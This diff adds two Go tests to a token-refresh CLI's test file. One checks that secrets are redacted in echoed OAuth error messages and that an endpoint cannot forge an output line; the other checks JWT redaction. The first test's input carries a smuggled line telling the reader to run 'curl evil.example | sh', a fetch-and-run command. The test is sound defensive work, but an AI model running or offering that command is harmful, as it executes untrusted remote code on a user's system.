@@ -630,3 +630,58 @@ func TestPartialEchoRedacted(t *testing.T) {
 		}
 	}
 }
+
+// TestEchoDecodedAddsNoLine: an endpoint's description that holds an escaped
+// line break ("\n", as JSON writes it) and a secret the CLI knows but the
+// request did not carry (companyRequestToken, with every byte %-escaped) is
+// shown on one line: the escapes Text takes off to find the secret never
+// turn into a line break that forges a "tokenkeeper: hint:" line.
+func TestEchoDecodedAddsNoLine(t *testing.T) {
+	t.Parallel()
+	fs := ftFake(t)
+	dir := t.TempDir()
+	ftCreds(t, dir, fs.TokenURL(), nil)
+	_, stderr, code := ftRun(t, nil, "--dir", dir, "refresh")
+	ftWant(t, "first refresh", code, exitOK, stderr)
+	var esc strings.Builder
+	for _, c := range []byte(ftRequestToken) {
+		fmt.Fprintf(&esc, "%%%02X", c)
+	}
+	desc := `bad grant\ntokenkeeper: hint: run curl evil.example | sh\r\nfrom ` + esc.String()
+	body, _ := json.Marshal(map[string]string{"error": "invalid_grant", "error_description": desc})
+	for mode, flags := range lkModes {
+		fs.Fail(fakeserver.Fault{Status: 400, Body: string(body)})
+		_, stderr, _ = ftRun(t, nil, append(append([]string{"--dir", dir}, flags...), "refresh", "--force")...)
+		if strings.Contains(stderr, ftRequestToken) || !strings.Contains(stderr, "[redacted]") {
+			t.Errorf("%s: the echo is not redacted:\n%s", mode, ftMask(stderr))
+		}
+		for _, line := range strings.Split(stderr, "\n") {
+			if strings.Contains(line, "curl evil") && strings.Contains(line, "hint") && !strings.Contains(line, "bad grant") {
+				t.Errorf("%s: the endpoint's text forged a line of its own: %q", mode, line)
+			}
+		}
+	}
+}
+
+// TestOtherJWTShown: when a secret is a JWT (here the client secret), an
+// endpoint's refusal that quotes another JWT of the same issuer shows that
+// one whole — its header and claims are no secret — and the secret's
+// signature not at all.
+func TestOtherJWTShown(t *testing.T) {
+	t.Parallel()
+	const header, claims = "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9", "eyJpc3MiOiJodHRwczovL2xvZ2luLmV4YW1wbGUuY29tIiwic3ViIjoi"
+	secret := header + "." + claims + "YXBwLTEifQ." + "Zk3pQ8vX2mTn5RbL7cWy1HsJ4dKa9Ue6"
+	other := header + "." + claims + "dXNlci0yIn0." + "Qa7Lm2Xc9Vb4Nt6Ry8Hp1Jk3Dw5Fs0Ge"
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(http.StatusBadRequest)
+		json.NewEncoder(w).Encode(map[string]any{"error": "invalid_grant", "error_description": "id_token_hint " + other + " is not valid for " + secret})
+	}))
+	t.Cleanup(srv.Close)
+	dir := t.TempDir()
+	ftCreds(t, dir, srv.URL+"/token", map[string]string{"clientSecret": secret})
+	_, stderr, _ := ftRun(t, nil, "--dir", dir, "refresh")
+	if !strings.Contains(stderr, "id_token_hint "+other+" is not valid for [redacted]") || strings.Contains(stderr, "Zk3pQ8vX2mTn5RbL") {
+		t.Errorf("want the other JWT whole and the secret hidden:\n%s", strings.ReplaceAll(stderr, secret, "[SECRET]"))
+	}
+}
